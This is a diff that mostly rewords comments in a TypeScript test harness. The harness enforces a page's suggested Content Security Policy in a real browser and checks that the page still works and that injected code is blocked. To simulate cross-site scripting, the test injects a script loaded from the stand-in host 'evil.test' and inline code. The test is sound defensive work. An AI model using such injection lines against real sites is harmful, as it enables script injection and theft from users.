@@ -1,4 +1,4 @@
-/** The policy that fits a page, enforced in a real browser: what the page had goes on, what is injected does not run. */
+/** The suggested policy of a page, enforced in a real browser: the page keeps working, injected code does not run. */
 
 import type { Engine } from "../../../src/headers/verdicts/response.ts";
 import type { PolicyBy } from "../../../src/jobs/page/bounds.ts";
@@ -13,7 +13,7 @@ import type { Answer, Asked } from "./server.ts";
 interface GivenPage {
   readonly url: string;
   readonly answers: ReadonlyMap<string, Answer>;
-  /** Whether a log of its load gives the policy: scripts ask for things. */
+  /** Whether the policy comes from a log of its load: scripts send requests. */
   readonly byLog: boolean;
   readonly wanted: readonly PolicyBy[];
 }
@@ -22,31 +22,31 @@ interface JudgedPage {
   readonly url: string;
   readonly by: PolicyBy;
   readonly policy: string;
-  /** What is gone with the policy, or was reported as blocked by it. */
+  /** Loads that fail with the policy, or that it reported as blocked. */
   readonly lost: readonly string[];
   /** Injected code that ran with the policy. */
   readonly injected: readonly string[];
-  /** Whether the browser told of what it blocked of that. */
+  /** Whether the browser reported the blocked code. */
   readonly isReported: boolean;
-  /** Things that the page did without the policy. */
+  /** Number of things that the page did without the policy. */
   readonly done: number;
 }
 
 const REPORTS = "/policy-reports-by-";
 const EVIL = "evil.test";
 
-/** Acts as a person does. */
+/** Simulates a user. */
 const ACT = `
   const settled = (ms) => new Promise((done) => setTimeout(done, ms));
   await document.fonts.ready;
   await settled(100);
   for (const each of document.querySelectorAll("[data-click]")) each.click();
   await settled(80);`;
-/** What ran, and what is styled. */
+/** Code that ran, and styled elements. */
 const DONE = `
   const styled = [...document.querySelectorAll("[data-styled]")].filter((one) => getComputedStyle(one).left === "7px");
   return [...(window.ran ?? []), ...styled.map(({ id }) => "style of " + id)];`;
-/** Injects code in the ways of cross-site scripting: from elsewhere, and in the page. */
+/** Injects code by cross-site scripting: from elsewhere, and in the page. */
 const INJECT_FAR = `
   document.body.append(Object.assign(document.createElement("script"), { src: "//${EVIL}/inject.js" }));`;
 const INJECT_CODE = `
@@ -55,7 +55,7 @@ const INJECT_CODE = `
   await new Promise((done) => setTimeout(done, 60));`;
 const INJECTED = `return Object.keys(window).filter((name) => name.startsWith("evil_"));`;
 
-/** Waits for what is to come, for ten seconds at most: a machine may do much else. */
+/** Waits at most ten seconds, for busy machines. */
 async function until(isThere: () => Promise<boolean> | boolean): Promise<boolean> {
   for (let tries = 0; tries < 200; tries++) {
     if (await isThere()) return true;
@@ -64,7 +64,7 @@ async function until(isThere: () => Promise<boolean> | boolean): Promise<boolean
   return false;
 }
 
-/** Judges each page by the policies that are wanted of it. */
+/** Judges each page by the policies that apply to it. */
 export async function judgePolicies(engine: Engine, pages: readonly GivenPage[]): Promise<JudgedPage[]> {
   let requests: Asked[] = [];
   const hosts = new Set(pages.flatMap(({ answers }) => [...answers.keys()].map((url) => new URL(url).host)));
@@ -98,7 +98,7 @@ export async function judgePolicies(engine: Engine, pages: readonly GivenPage[])
         world.answers.set(page.url, { ...answer, headers: [...(answer.headers ?? []), line] });
         requests = [];
         await visit(driver, page.url);
-        // Other engines keep images in memory from the visit before.
+        // Other engines keep images in memory from the previous visit.
         const lost = async () => [
           ...missing(before, await namesFrom(driver, DONE)),
           ...(engine === "chromium" ? missing(urlsOf(asked), urlsOf(requests)) : []),
@@ -109,7 +109,7 @@ export async function judgePolicies(engine: Engine, pages: readonly GivenPage[])
         const isReported = await until(() =>
           requests.some(({ path, body }) => path === REPORTS + by && body?.includes(EVIL)),
         );
-        // Reports come in no order: those of the code that is injected next are not the page's.
+        // Reports arrive in any order: those of code that is injected next are not the page's.
         const reports = reportsIn(requests, REPORTS + by).filter((report) => !report.includes(EVIL));
         await driver.run(INJECT_CODE);
         const injected = await namesFrom(driver, INJECTED);
@@ -142,7 +142,7 @@ const namesFrom = async (driver: Driver, body: string) => ((await driver.run(bod
 const missing = (before: readonly string[], after: readonly string[]) =>
   [...new Set(before)].filter((one) => !after.includes(one));
 
-/** What was asked of these hosts; browsers ask for icons of a site when they like, and their makers for news. */
+/** Requests to these hosts; browsers request icons and vendors' services at any time. */
 const urlsAt = (hosts: ReadonlySet<string>, requests: readonly Asked[]) =>
   requests
     .filter(
@@ -162,7 +162,7 @@ function reportsIn(requests: readonly Asked[], at: string): string[] {
   });
 }
 
-/** The log of a load, as a browser's tools save it. */
+/** Log of a load, as a browser's tools save it. */
 function logOf({ answers }: GivenPage, asked: readonly Asked[]): unknown {
   const entries = asked.map(({ scheme, host, path, method, headers }) => {
     const url = `${scheme}://${host}${path}`;
